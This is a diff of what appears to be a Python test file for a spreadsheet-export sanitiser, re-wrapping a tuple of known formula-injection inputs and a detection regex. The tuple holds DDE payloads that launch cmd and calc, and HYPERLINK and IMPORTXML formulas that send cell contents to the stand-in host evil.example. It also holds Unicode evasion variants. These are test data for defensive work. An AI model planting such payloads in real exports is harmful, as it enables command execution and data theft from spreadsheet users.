@@ -19,12 +19,16 @@ from widget_server.exports.inert import inert, restored
 
 KNOWN = (
     "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '=IMPORTXML("http://evil.example","//a")', "=DDE(\"cmd\";\"/C calc\")",
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '=IMPORTXML("http://evil.example","//a")',
+    "=DDE(\"cmd\";\"/C calc\")",
     "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "  =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\u2060=1+1",
-    "\u202e=1+1", "\u00ad=1+1", "=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\u00a0＝1+1", "﹢1", "﹣1", "\u22121", "'=1+1", "''=1+1", "'", "''",
+    "\u202e=1+1", "\u00ad=1+1", "=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\u00a0＝1+1", "﹢1", "﹣1", "\u22121",
+    "'=1+1", "''=1+1", "'", "''",
     "a;=1+1", "a;  =1+1;", "a\t=1+1", "a\r\n=1+1", "a\n-1+cmd", "a;'=1", 'a";=1+1;"', "a;\u00a0＠x", "<r><t>x</t></r>",
-    "<r></t></is></c><c r=\"A9\"><f>1+1</f></c></r>", "_x003D_1+1", "_x000D_=1", "%0A-3+3+cmd|' /C calc'!D2", ";=cmd|'/c calc'!A1",
-    "\x00=1", "\x1f=1", "=\x00", "-", "- a list\n- of things", "+47 22 33 44 55", "plain", "", "ยอดเยี่ยม", "5 > 3", "it’s 'fine'",
+    "<r></t></is></c><c r=\"A9\"><f>1+1</f></c></r>", "_x003D_1+1",
+    "_x000D_=1", "%0A-3+3+cmd|' /C calc'!D2", ";=cmd|'/c calc'!A1",
+    "\x00=1", "\x1f=1", "=\x00", "-", "- a list\n- of things", "+47 22 33 44 55", "plain", "",
+    "ยอดเยี่ยม", "5 > 3", "it’s 'fine'",
 )  # fmt: skip
 SIGNS = "=+-@'<;,\t\r\n \u00a0\u200b\u3000\ufeff＝＋－＠\"|ab1!()&_x0"
 FORMULA = re.compile(r"[\s\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\x00-\x1f]*[=+\-@＝＋－＠﹢﹣\u2212]")
